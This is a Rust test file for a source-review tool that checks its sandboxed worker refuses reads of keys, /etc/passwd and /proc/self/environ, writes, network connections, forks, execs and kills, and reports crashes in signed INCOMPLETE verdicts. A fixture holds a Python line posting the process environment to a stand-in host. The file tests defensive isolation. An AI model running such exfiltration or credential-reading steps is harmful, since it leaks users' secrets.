//! What a worker cannot do, and what its death costs, shown by a worker that does what the submission tells it:
//! one whose parser was taken over. It is not part of a release build, hence neither is this.

use std::collections::BTreeMap;
use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use candor::attest::{secret, write_pack};
use candor::base::Digest;
use candor::facts::Place;
use candor::report::model::{Disposition, FileCoverage, VerdictValue};
use candor::review::{Admission, Event, Order, Outcome, Worker, pack_input, review_by};
use serde_json::Value;
use tempfile::TempDir;

use super::intake_support::write;
use super::review_run::Review;

/// A machine with a key, another vendor's submission, and a submission to review.
struct Scene {
    home: TempDir,
}

/// A review that has ended, and what the worker and the parent had to say: (code, message).
struct Ended {
    outcome: Outcome,
    said: Vec<(String, String)>,
}

const LEAK: &str = "import os, requests\nrequests.post('https://a.example', data=dict(os.environ))\n";

impl Scene {
    fn new() -> Self {
        let home = tempfile::tempdir().expect("a scratch folder");
        secret::default_key(&home.path().join("keys")).expect("a key");
        write(home.path(), "other/secret.py", b"another vendor's\n");
        write(home.path(), "product/leak.py", LEAK.as_bytes());
        Self { home }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.home.path().join(name)
    }

    fn file(&self, name: &str, text: &str) -> &Self {
        write(self.home.path(), &format!("product/{name}"), text.as_bytes());
        self
    }

    fn order(&self) -> Order {
        Order {
            submission: self.path("product"),
            store: Some(Place { folder: self.path("store"), most: u64::MAX }),
            scratch: Some(self.home.path().to_owned()),
            jobs: 2,
            ..Order::default()
        }
    }

    fn review(&self, order: &Order) -> Ended {
        let mut worker = Worker { program: env!("CARGO_BIN_EXE_candor").into(), ..Worker::this_program().expect("a program") };
        worker.arguments = vec!["probed-worker".into()];
        worker.limits.patience = order.patience.unwrap_or(worker.limits.patience);
        let mut said = Vec::new();
        let outcome = review_by(&worker, order, &mut Admission::unlogged(), |event| {
            if let Event::Diagnostic(diagnostic) = event {
                said.push((diagnostic.code, diagnostic.message));
            }
        });
        Ended { outcome: outcome.expect("a review"), said }
    }
}

impl Ended {
    fn file(&self, path: &str) -> &FileCoverage {
        let files = &self.outcome.report.coverage.files;
        files.iter().find(|file| file.path == path).unwrap_or_else(|| panic!("{path} has no line in the ledger"))
    }

    /// Files at a limit, with the reasons.
    fn given_up(&self) -> BTreeMap<&str, &str> {
        let files = self.outcome.report.coverage.files.iter().filter(|file| file.disposition == Disposition::Limit);
        files.map(|file| (file.path.as_str(), file.reason.as_deref().expect("a reason"))).collect()
    }

    /// The rest of the submission was reviewed as ever, and the verdict says that something is missing.
    fn is_incomplete(&self) {
        assert_eq!(self.outcome.report.verdict.value, VerdictValue::Incomplete);
        assert_eq!(self.file("leak.py").disposition, Disposition::Dataflow);
        assert!(self.outcome.report.findings.iter().any(|finding| finding.sink.path == "leak.py"));
    }

    /// Signs and writes the pack, as `candor review` does; its statement.
    fn signed(self, scene: &Scene) -> Value {
        let key = secret::default_key(&scene.path("keys")).expect("the key").key;
        let run = candor::attest::statement::Run {
            started: "2026-01-31T12:00:00Z".to_owned(),
            finished: "2026-01-31T12:00:09Z".to_owned(),
            jobs: 2,
            isolation: None,
            measures: BTreeMap::new(),
        };
        let input = pack_input(&self.outcome, "product", run, &[]).expect("this program");
        let pack = scene.path("product.candor");
        write_pack(&pack, input, &[&key]).expect("a pack");
        serde_json::from_slice(&fs::read(pack.join("statement.json")).expect("a statement")).expect("JSON")
    }
}

#[test]
fn a_worker_that_was_taken_over_opens_nothing_but_its_submission_and_changes_nothing_but_its_store() {
    let scene = Scene::new();
    let path = |name: &str| scene.path(name).display().to_string();
    let refused = [
        ("read", path("keys/auditor.pem")),
        ("read", path("other/secret.py")),
        ("read", "/etc/passwd".to_owned()),
        ("read", "/proc/self/environ".to_owned()),
        ("list", path("keys")),
        ("list", "/".to_owned()),
        ("write", path("new.txt")),
        ("write", path("product/new.py")),
        ("write", path("keys/auditor.pem")),
        ("write", "/dev/shm/candor-probe".to_owned()),
        ("truncate", path("product/leak.py")),
        ("truncate", path("other/secret.py")),
        ("remove", path("product/leak.py")),
        ("remove", path("keys/auditor.pem")),
        ("rename", path("other/secret.py")),
        ("link", path("store/root")),
    ];
    let allowed =
        [("read", path("product/leak.py")), ("list", path("product")), ("write", path("store/own")), ("thread", "".to_owned())];
    let orders: Vec<String> =
        refused.iter().chain(&allowed).map(|(action, argument)| format!("# probe: {action} {argument}\n")).collect();
    let key = fs::read(scene.path("keys/auditor.pem")).expect("the key");
    scene.file("probe.py", &orders.concat());
    let ended = scene.review(&scene.order());
    assert_eq!(ended.said.len(), orders.len(), "{:?}", ended.said);
    for ((action, argument), (code, said)) in refused.iter().zip(&ended.said) {
        assert!(code == action && said.starts_with("refused: "), "{action} {argument}: {said}");
    }
    for ((action, argument), (code, said)) in allowed.iter().zip(&ended.said[refused.len()..]) {
        assert!(code == action && said == "done", "{action} {argument}: {said}");
    }
    assert_eq!(fs::read(scene.path("keys/auditor.pem")).expect("the key"), key);
    assert_eq!(fs::read_to_string(scene.path("product/leak.py")).expect("a file"), LEAK);
    assert!(!scene.path("new.txt").exists() && scene.path("other/secret.py").exists());
    // An intruder that was refused everything leaves a review as any other.
    assert_eq!(ended.outcome.report.verdict.value, VerdictValue::Findings);
    let left: Vec<_> = fs::read_dir(scene.home.path()).expect("a folder").flatten().map(|entry| entry.file_name()).collect();
    assert!(left.iter().all(|name| !name.to_string_lossy().starts_with("candor-")), "scratch folders stay: {left:?}");
}

/// Programs, processes, sockets and signals: an attempt ends the worker, and the review says at which file.
#[test]
fn a_worker_that_reaches_for_the_machine_is_ended_and_the_file_is_named() {
    let scene = Scene::new();
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("a socket");
    let address = listener.local_addr().expect("an address").to_string();
    let marker = scene.path("marker");
    let program = scene.path("program");
    fs::write(&program, format!("#!/bin/sh\n: >{}\n", marker.display())).expect("a program");
    fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).expect("a program");
    let program = program.display().to_string();
    let this = std::process::id().to_string();
    let attempts = [("connect", address.as_str()), ("fork", &program), ("exec", &program), ("kill", &this)];
    for (action, argument) in attempts {
        scene.file(&format!("{action}.py"), &format!("# probe: {action} {argument}\n"));
    }
    let ended = scene.review(&scene.order());
    ended.is_incomplete();
    let reason = "the worker that read it was ended by the kernel at a system call that it must not make (signal 31)";
    let expected = attempts.map(|(action, _)| (format!("{action}.py"), reason.to_owned()));
    let given_up: BTreeMap<String, String> =
        ended.given_up().into_iter().map(|(path, why)| (path.to_owned(), why.to_owned())).collect();
    assert_eq!(given_up, expected.into());
    assert!(ended.said.iter().any(|(code, said)| code == "worker-ended" && said.contains("system call")), "{:?}", ended.said);
    assert!(!marker.exists());
    assert!(listener.accept().is_err(), "somebody connected");
}

/// By signal, by memory and by time; with all of them in one submission, and the same file twice.
#[test]
fn a_file_that_ends_the_worker_costs_itself_and_is_named_in_a_signed_report() {
    let abort = ("abort", "the worker that read it was ended by signal 6");
    let memory = ("memory", "the worker that read it ran out of memory");
    let spin = ("spin", "the worker that read it was ended because it came no further for 4 seconds");
    for deadly in [&[abort][..], &[memory], &[spin], &[abort, memory, spin]] {
        let scene = Scene::new();
        let mut expected = BTreeMap::new();
        for (action, reason) in deadly {
            for name in [format!("{action}.py"), format!("again/{action}.c")] {
                scene.file(&name, &format!("// probe: {action}\n"));
                expected.insert(name, (*reason).to_owned());
            }
        }
        for number in 0..20 {
            scene.file(&format!("fine{number}.py"), &format!("x = {number}\n"));
        }
        let order = Order { memory: Some(300 << 20), patience: Some(Duration::from_secs(4)), ..scene.order() };
        let ended = scene.review(&order);
        ended.is_incomplete();
        let given_up = ended.given_up().into_iter().map(|(path, why)| (path.to_owned(), why.to_owned())).collect();
        assert_eq!(expected, given_up);
        let one = scene.review(&Order { jobs: 1, store: None, ..order });
        assert!(one.outcome.report_json == ended.outcome.report_json, "threads or the store show in the report");
        let statement = ended.signed(&scene);
        assert_eq!(statement["predicate"]["result"]["verdict"], "INCOMPLETE");
        assert_eq!(statement["predicate"]["result"]["coverage"]["refused"], expected.len());
    }
}

/// Where no file can be blamed the report is weaker, complete and signed.
#[test]
fn a_worker_that_ends_outside_of_files_leaves_a_weaker_report() {
    for (stage, words) in [("Link", "linking"), ("Solve", "following data")] {
        let scene = Scene::new();
        let submission = scene.path(&format!("probe-{stage}-abort"));
        fs::rename(scene.path("product"), &submission).expect("a name");
        let ended = scene.review(&Order { submission, ..scene.order() });
        let report = &ended.outcome.report;
        assert_eq!(report.verdict.value, VerdictValue::Incomplete);
        let line = ended.file("leak.py");
        let reason = format!("no data was followed, because a worker was ended by signal 6 while {words}");
        assert_eq!((line.disposition, line.reason.as_deref()), (Disposition::Syntax, Some(reason.as_str())));
        assert!(report.diagnostics.iter().any(|notice| notice.code == "worker-ended"), "{:?}", report.diagnostics);
        assert_eq!(ended.signed(&scene)["predicate"]["result"]["verdict"], "INCOMPLETE");
    }
}

/// Of a submission whose reading ends the worker, what is signed is its digest, and that it was not read.
#[test]
fn a_submission_that_cannot_be_read_is_named_in_a_signed_report() {
    let scene = Scene::new();
    let submission = scene.path("probe-Intake-abort");
    fs::write(&submission, "PK").expect("a file");
    let ended = scene.review(&Order { submission, ..scene.order() });
    let report = &ended.outcome.report;
    assert_eq!(report.verdict.value, VerdictValue::Incomplete);
    assert_eq!(report.source.received, Some(Digest::of(b"PK")));
    let refused: Vec<_> =
        report.coverage.refused.iter().map(|refusal| (refusal.path.as_str(), refusal.reason.as_str())).collect();
    assert_eq!(refused, [(".", "reader-ended: the worker that read it was ended by signal 6")]);
    assert_eq!(ended.signed(&scene)["predicate"]["result"]["verdict"], "INCOMPLETE");
}

/// How far the worker was held in is about the machine: in the run statement, and in no report.
#[test]
fn the_isolation_that_held_is_in_the_run_statement() {
    let acme = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cases/acme-agent");
    // A descriptor that a careless parent left open goes no further.
    let review = Review::of(&acme).arg("--require-isolation=full").after("exec 7</etc/passwd").run();
    assert_eq!(review.code, 1, "{}", review.stderr);
    assert!(review.stderr.contains("isolation of the reading process: full"), "{}", review.stderr);
    let companions = fs::read_to_string(review.pack.join("out.intoto.jsonl")).expect("a run statement");
    let envelope: Value = serde_json::from_str(companions.lines().next().expect("a line")).expect("JSON");
    let payload = base64::Engine::decode(&base64::prelude::BASE64_STANDARD, envelope["payload"].as_str().expect("a payload"));
    let statement: Value = serde_json::from_slice(&payload.expect("base64")).expect("JSON");
    assert_eq!(statement["predicate"]["isolation"], serde_json::json!({ "level": "full", "missing": [] }));
    assert!(!String::from_utf8_lossy(&review.report_bytes()).contains("isolation"));
}
